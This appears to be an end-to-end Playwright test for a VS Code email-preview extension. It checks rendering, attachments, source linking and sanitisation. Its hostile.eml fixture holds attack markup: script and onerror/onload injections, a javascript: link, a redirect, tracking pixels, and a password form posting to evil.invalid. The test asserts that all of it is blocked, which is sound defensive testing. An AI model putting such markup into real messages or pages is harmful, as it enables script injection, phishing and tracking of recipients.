// The message preview as a person uses it (phase `preview` of test/e2e/run.mjs):
// Show Preview to the Side on samples/multipart-attachments.eml (the HTML
// alternative shown, the CSV attachment listed and opened decoded), an edit of
// the Subject reaching the preview, part <-> source linking, and a hostile
// message whose script, onerror handler and remote/tracking images have no
// effect: Playwright's request log must show that nothing left 127.0.0.1, and
// a local image server sees the remote image only after "Load remote content"
// (the tracking pixel never). Links go through VS Code's confirmation.
import { cpSync, mkdirSync, writeFileSync } from 'node:fs';
import { createServer } from 'node:http';
import { join } from 'node:path';
import { freePort, launchCodeServer, makeProfile, repoRoot } from '../../scripts/code-server.mjs';

const CHROMIUM = process.env.CHROMIUM_PATH ?? '/usr/bin/chromium';
const CHROMIUM_ARGS = ['--no-sandbox', '--disable-gpu', '--disable-quic', '--no-first-run', '--disable-background-networking', '--disable-component-update', '--disable-sync', '--disable-dev-shm-usage'];
const STEP_DEADLINE_MS = 30_000;
/** A 1x1 transparent GIF. */
const GIF = Buffer.from('R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7', 'base64');

/** A message that tries everything (the sanitizer and the CSP must stop all of it). */
function hostileMessage(imagePort) {
  const html = [
    '<html><head><meta http-equiv="refresh" content="0;url=http://evil.invalid/"><base href="http://evil.invalid/">',
    '<style>body{background:url(http://tracker.invalid/bg.png)} p.x{width:expression(alert(1))}</style></head><body>',
    '<script>window.__pwned = 1; document.title = "PWNED";</script>',
    '<p id="hello">Hello from a hostile message.</p>',
    '<img src="x" onerror="window.__pwned = 2; document.body.innerHTML = \'PWNED\'">',
    '<svg onload="window.__pwned = 3"><circle r="5"/></svg>',
    `<img src="http://127.0.0.1:${imagePort}/remote.gif" width="120" height="40" alt="remote picture">`,
    `<img src="http://127.0.0.1:${imagePort}/pixel.gif" width="1" height="1">`,
    '<img src="http://tracker.invalid/open.gif" width="1" height="1">',
    '<img src="https://images.invalid/banner.png" width="300" height="50" alt="banner">',
    '<a id="jslink" href="javascript:window.__pwned=4">javascript link</a>',
    '<a id="weblink" href="https://example.com/docs">a web link</a>',
    '<form action="http://evil.invalid/"><input name="password"><button>Sign in</button></form>',
    '</body></html>',
  ].join('\r\n');
  return [
    'From: Mallory <mallory@example.invalid>',
    'To: You <you@example.org>',
    'Subject: Hostile HTML',
    'Date: Mon, 30 Nov 2026 09:00:00 +0000',
    'MIME-Version: 1.0',
    'Content-Type: text/html; charset=utf-8',
    '',
    html,
    '',
  ].join('\r\n');
}

/** Runs the preview scenario; returns the failures. */
export async function runPreviewScenario({ bin, workDir, screenshots, timed = (_l, fn) => fn(), onCleanup }) {
  const failures = [];
  // Images "on the internet" are served here, so we can see which ones the preview asked for.
  const imageHits = [];
  const images = createServer((req, res) => {
    imageHits.push(req.url);
    res.writeHead(200, { 'content-type': 'image/gif' });
    res.end(GIF);
  });
  await new Promise((resolve) => images.listen(0, '127.0.0.1', resolve));
  onCleanup(() => new Promise((resolve) => images.close(resolve)));
  const imagePort = images.address().port;

  const profile = makeProfile(join(workDir, 'preview-profile'), { 'workbench.colorTheme': 'Default Dark Modern' });
  const ws = join(workDir, 'preview-workspace');
  mkdirSync(ws, { recursive: true });
  cpSync(join(repoRoot, 'samples'), ws, { recursive: true });
  writeFileSync(join(ws, 'hostile.eml'), hostileMessage(imagePort));
  writeFileSync(
    join(ws, 'two.mbox'),
    ['From a@example.org Mon Nov 30 10:00:00 2026', 'Subject: first of the mbox', '', 'one', '', 'From b@example.org Mon Nov 30 11:00:00 2026', 'Subject: second of the mbox', '', 'two', ''].join('\n'),
  );
  const port = await freePort();
  const server = await timed('code-server start (preview)', () => launchCodeServer({ bin, profile, port, folder: ws, logFile: join(workDir, 'code-server-preview.log') }));
  onCleanup(server.stop);
  const { chromium } = await import('playwright-core');
  const context = await chromium.launchPersistentContext(join(workDir, 'chromium-preview'), { executablePath: CHROMIUM, headless: true, args: CHROMIUM_ARGS, viewport: { width: 1400, height: 900 } });
  onCleanup(() => context.close());
  const page = context.pages()[0] ?? (await context.newPage());
  page.setDefaultTimeout(STEP_DEADLINE_MS);
  // Every request the browser makes, from every frame (the workbench, the webviews, the message frames).
  const requests = [];
  context.on('request', (r) => requests.push(r.url()));
  page.on('console', (m) => {
    if (m.type() === 'error' && /preview|webview|Content Security Policy/i.test(m.text())) console.log(`  [workbench] ${m.text().slice(0, 300)}`);
  });

  let n = 0;
  const shot = (name) => page.screenshot({ path: join(screenshots, `preview-${String(++n).padStart(2, '0')}-${name}.png`) });
  const step = async (name, fn) => {
    try {
      await timed(`preview: ${name}`, fn);
      console.log(`  ✔ ${name}`);
    } catch (e) {
      console.log(`  ✘ ${name}: ${e.message.split('\n')[0]}`);
      failures.push(`${name}: ${e.message}`);
      await page.screenshot({ path: join(screenshots, `failed-preview-${name.replace(/\W+/g, '-')}.png`) }).catch(() => {});
    }
  };
  const until = async (what, check) => {
    const deadline = Date.now() + STEP_DEADLINE_MS;
    for (;;) {
      const value = await check().catch(() => undefined);
      if (value) return value;
      if (Date.now() > deadline) throw new Error(`timed out waiting for ${what}`);
      await page.waitForTimeout(100);
    }
  };
  /** The preview's page: VS Code puts a webview in an iframe that holds an iframe (#active-frame). */
  const previewFrame = () => page.frameLocator('iframe.webview.ready').last().frameLocator('#active-frame');
  const openFile = async (name) => {
    await page.locator('.explorer-folders-view .monaco-list-row').filter({ hasText: new RegExp(`^${name.replace('.', '\\.')}$`) }).first().click();
    await page.locator(`.tabs-container .tab[aria-label*="${name}"]`).first().waitFor();
  };
  const showPreviewToSide = async () => {
    await page.locator('.editor-actions a[aria-label^="Show Preview to the Side"]').first().click();
  };
  const remote = (p) => `vscode-remote://127.0.0.1:${port}${p}`;
  const payload = [['extensionDevelopmentPath', remote(repoRoot)]];

  console.log('Preview scenario:');
  await step('workbench loads', async () => {
    await page.goto(`${server.url}/?folder=${encodeURIComponent(ws)}&payload=${encodeURIComponent(JSON.stringify(payload))}`);
    await page.locator('.monaco-workbench').waitFor({ timeout: 60_000 });
    await page.locator('.explorer-folders-view .monaco-list-row').filter({ hasText: /^multipart-attachments\.eml$/ }).first().waitFor({ timeout: 60_000 });
  });

  await step('Show Preview to the Side shows the HTML alternative and lists the CSV attachment', async () => {
    await openFile('multipart-attachments.eml');
    await showPreviewToSide();
    const view = previewFrame();
    await view.locator('h1.subject').filter({ hasText: 'Plans and tables — with attachments' }).waitFor();
    // The HTML alternative is the one shown (its frame is visible, the text alternative hidden).
    await view.locator('.alt-tab[aria-selected="true"]').filter({ hasText: 'HTML' }).waitFor();
    await view.frameLocator('iframe.msg-frame').first().locator('b').filter({ hasText: 'café' }).waitFor();
    const row = view.locator('li.attachment').filter({ hasText: 'team.csv' });
    await row.waitFor();
    const rowText = await row.innerText();
    if (!/text\/csv/.test(rowText) || !/39 bytes/.test(rowText)) throw new Error(`the attachment row reads: ${rowText}`);
    await view.locator('.nested h2.subject').filter({ hasText: 'Re: Notes on the Analytical Engine' }).waitFor();
    await shot('multipart');
  });

  await step('Open on the CSV attachment opens it decoded, read-only', async () => {
    const view = previewFrame();
    await view.locator('li.attachment').filter({ hasText: 'team.csv' }).locator('button[data-action="open"]').click();
    await page.locator('.tabs-container .tab[aria-label*="team.csv"]').first().waitFor();
    await page.locator('.monaco-editor .view-line').filter({ hasText: /^Charles,engineer$/ }).first().waitFor();
    await shot('csv-opened');
    // Read-only: typing changes nothing.
    await page.keyboard.type('zzz');
    const lines = await page.locator('.monaco-editor .view-line').allInnerTexts();
    if (lines.some((l) => l.includes('zzz'))) throw new Error('the decoded attachment could be edited');
    const tab = page.locator('.tabs-container .tab').filter({ hasText: 'team.csv' }).first();
    await tab.hover();
    await tab.locator('.action-label.codicon-close, a[aria-label^="Close"]').first().click();
  });

  await step('editing the Subject updates the preview without reloading the body', async () => {
    await page.locator('.tabs-container .tab').filter({ hasText: 'multipart-attachments.eml' }).first().click();
    // A mark on the body frame's window: it survives only if the frame is not reloaded or replaced.
    await previewFrame().locator('iframe.msg-frame').first().evaluate((f) => (f.contentWindow.smtpEmlMark = 'kept'));
    const line = page.locator('.monaco-editor .view-line').filter({ hasText: /^Subject:/ }).first();
    await line.click();
    await page.keyboard.press('End');
    await page.keyboard.type(' (edited)');
    await previewFrame().locator('h1.subject').filter({ hasText: /\(edited\)$/ }).waitFor();
    const mark = await previewFrame().locator('iframe.msg-frame').first().evaluate((f) => f.contentWindow.smtpEmlMark ?? null);
    if (mark !== 'kept') throw new Error('the body frame was reloaded by an edit of the Subject');
    await shot('subject-edited');
  });

  await step('the cursor in the source highlights the part; a click on a part reveals its source', async () => {
    const view = previewFrame();
    await page.locator('.monaco-editor .view-line').filter({ hasText: /^bmFtZSxyb2xl/ }).first().click();
    await view.locator('li.attachment.active-part').filter({ hasText: 'team.csv' }).waitFor();
    await shot('cursor-highlights');
    await view.locator('.headers .row[data-field="from"]').first().click();
    // The editor's cursor moves to the From line (line 1).
    await until('the cursor on line 1', async () => /Ln 1,/.test(await page.locator('.statusbar-item[id="status.editor.selection"]').innerText()));
  });

  await step('a broken message previews as far as it parses, with a banner that opens the Problems', async () => {
    await openFile('broken.eml');
    await showPreviewToSide();
    const view = previewFrame();
    // The first Subject is the one a client shows (the second is a duplicate-header error).
    await view.locator('h1.subject').filter({ hasText: 'Everything that can go wrong' }).waitFor();
    const banner = view.locator('.bar.problems').filter({ hasText: /This message has \d+ errors?/ });
    await banner.waitFor();
    await view.locator('li.attachment').filter({ hasText: 'data.bin' }).waitFor();
    await shot('broken-banner');
    await banner.locator('button[data-action="problems"]').click();
    await page.locator('.markers-panel .monaco-list-row').filter({ hasText: 'missing-date' }).first().waitFor();
    await page.keyboard.press('Control+J');
  });

  await step('a transcript previews the message of its DATA under the cursor', async () => {
    await openFile('seed-article-session.smtp');
    await showPreviewToSide();
    const view = previewFrame();
    await view.locator('h1.subject').filter({ hasText: 'Hello from mydomain.com' }).waitFor();
    await page.locator('.tabs-container .tab').filter({ hasText: 'seed-article-session.smtp' }).first().click();
    await page.locator('.monaco-editor .view-line').filter({ hasText: /^C:\sSubject:\sAnd\sa\ssecond/ }).first().click();
    await previewFrame().locator('h1.subject').filter({ hasText: 'And a second one' }).waitFor();
    await shot('transcript-second-message');
  });

  await step('an mbox previews the message under the cursor', async () => {
    await openFile('two.mbox');
    await showPreviewToSide();
    await previewFrame().locator('h1.subject').filter({ hasText: 'first of the mbox' }).waitFor();
    await page.locator('.tabs-container .tab').filter({ hasText: 'two.mbox' }).first().click();
    await page.locator('.monaco-editor .view-line').filter({ hasText: /^Subject:\ssecond\sof\sthe\smbox/ }).first().click();
    await previewFrame().locator('h1.subject').filter({ hasText: 'second of the mbox' }).waitFor();
    await shot('mbox-second-message');
  });

  await step('a hostile message: no script effect, nothing loads, the request log stays on 127.0.0.1', async () => {
    const before = requests.length;
    await openFile('hostile.eml');
    await showPreviewToSide();
    const view = previewFrame();
    await view.locator('h1.subject').filter({ hasText: 'Hostile HTML' }).waitFor();
    const body = view.frameLocator('iframe.msg-frame').first();
    await body.locator('#hello').waitFor();
    await view.locator('.bar.remote').filter({ hasText: /blocked/ }).waitFor();
    await view.locator('.bar.remote').filter({ hasText: /tracking pixel/ }).waitFor();
    // Let any late load or handler run before judging.
    await page.waitForTimeout(1500);
    const frames = page.frames();
    for (const f of frames) {
      const pwned = await f.evaluate(() => globalThis.__pwned ?? null).catch(() => null);
      if (pwned !== null) throw new Error(`a script of the message ran (window.__pwned = ${pwned}) in ${f.url().slice(0, 80)}`);
    }
    const inside = await body.locator('body').evaluate((b) => ({
      scripts: b.ownerDocument.querySelectorAll('script, svg, form, input, meta[http-equiv="refresh" i], base[href]').length,
      handlers: [...b.ownerDocument.querySelectorAll('*')].filter((e) => [...e.attributes].some((a) => /^on/i.test(a.name))).length,
      jsLink: b.ownerDocument.getElementById('jslink')?.getAttribute('href') ?? null,
      text: b.innerText,
    }));
    if (inside.scripts || inside.handlers || inside.jsLink !== null || /PWNED/.test(inside.text)) throw new Error(`hostile markup survived: ${JSON.stringify(inside)}`);
    await shot('hostile-blocked');
    const offHost = requests.slice(before).filter((u) => !/^(data:|blob:|about:|vscode-)/.test(u) && new URL(u).hostname !== '127.0.0.1');
    if (offHost.length) throw new Error(`requests left 127.0.0.1: ${offHost.join(', ')}`);
    if (imageHits.length) throw new Error(`remote images were fetched while blocked: ${imageHits.join(', ')}`);
  });

  await step('Load remote content shows the remote image for this message; the tracking pixel stays blocked', async () => {
    const view = previewFrame();
    await view.locator('.bar.remote button[data-action="remote"]').click();
    await previewFrame().locator('.bar.remote').filter({ hasText: /Remote content is shown/ }).waitFor();
    await until('the remote image requested', async () => imageHits.includes('/remote.gif'));
    await shot('remote-loaded');
    if (imageHits.includes('/pixel.gif')) throw new Error('the tracking pixel was requested');
    await previewFrame().locator('.bar.remote button[data-action="remote"]').click();
    await previewFrame().locator('.bar.remote').filter({ hasText: /blocked/ }).waitFor();
  });

  await step('a link opens only after VS Code asks', async () => {
    const body = previewFrame().frameLocator('iframe.msg-frame').first();
    await body.locator('#weblink').click();
    const dialog = page.locator('.monaco-dialog-box').first();
    await dialog.waitFor();
    const text = (await dialog.innerText()).replace(/\u00a0/g, ' ');
    if (!/example\.com/.test(text)) throw new Error(`the dialog does not name the site:\n${text}`);
    await shot('link-confirmation');
    await dialog.locator('.monaco-button').filter({ hasText: 'Cancel' }).first().click();
    await dialog.waitFor({ state: 'detached' });
  });

  return failures;
}
